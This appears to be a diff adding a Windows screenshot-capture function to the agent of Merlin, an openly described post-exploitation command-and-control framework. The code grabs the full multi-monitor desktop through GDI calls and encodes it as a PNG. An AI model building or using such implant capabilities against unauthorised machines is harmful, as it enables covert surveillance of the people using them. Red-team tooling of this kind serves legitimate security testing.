@@ -0,0 +1,95 @@
+//go:build windows
+// +build windows
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"bytes"
+	"fmt"
+	"image"
+	"image/png"
+	"unsafe"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/os/windows/api/gdi32"
+	"github.com/Ne0nd0g/merlin-agent/os/windows/api/user32"
+)
+
+// captureScreen copies the virtual screen, which spans every monitor, to a PNG image with GDI. The agent must run in
+// the user's interactive session, a service in session 0 can not see the user's desktop
+func captureScreen() ([]byte, error) {
+	x := user32.GetSystemMetrics(user32.SM_XVIRTUALSCREEN)
+	y := user32.GetSystemMetrics(user32.SM_YVIRTUALSCREEN)
+	width := user32.GetSystemMetrics(user32.SM_CXVIRTUALSCREEN)
+	height := user32.GetSystemMetrics(user32.SM_CYVIRTUALSCREEN)
+	if width <= 0 || height <= 0 {
+		return nil, fmt.Errorf("there is no desktop in this session")
+	}
+
+	screen, err := user32.GetDC(0)
+	if err != nil {
+		return nil, err
+	}
+	defer user32.ReleaseDC(0, screen)
+	memory, err := gdi32.CreateCompatibleDC(screen)
+	if err != nil {
+		return nil, err
+	}
+	defer gdi32.DeleteDC(memory)
+	bitmap, err := gdi32.CreateCompatibleBitmap(screen, width, height)
+	if err != nil {
+		return nil, err
+	}
+	defer gdi32.DeleteObject(bitmap)
+
+	previous := gdi32.SelectObject(memory, bitmap)
+	err = gdi32.BitBlt(memory, 0, 0, width, height, screen, x, y, gdi32.SRCCOPY|gdi32.CAPTUREBLT)
+	// The bitmap can't be selected into a device context when its bits are read
+	gdi32.SelectObject(memory, previous)
+	if err != nil {
+		return nil, err
+	}
+
+	// A negative height returns the rows top-down
+	info := gdi32.BITMAPINFOHEADER{
+		Width:       width,
+		Height:      -height,
+		Planes:      1,
+		BitCount:    32,
+		Compression: gdi32.BI_RGB,
+	}
+	info.Size = uint32(unsafe.Sizeof(info))
+	bits := make([]byte, int(width)*int(height)*4)
+	if err = gdi32.GetDIBits(screen, bitmap, uint32(height), bits, &info); err != nil {
+		return nil, err
+	}
+
+	// The bits are BGRA with an unused alpha channel
+	img := image.NewRGBA(image.Rect(0, 0, int(width), int(height)))
+	for i := 0; i < len(bits); i += 4 {
+		img.Pix[i], img.Pix[i+1], img.Pix[i+2], img.Pix[i+3] = bits[i+2], bits[i+1], bits[i], 0xff
+	}
+	var out bytes.Buffer
+	if err = png.Encode(&out, img); err != nil {
+		return nil, fmt.Errorf("there was an error encoding the screenshot: %s", err)
+	}
+	return out.Bytes(), nil
+}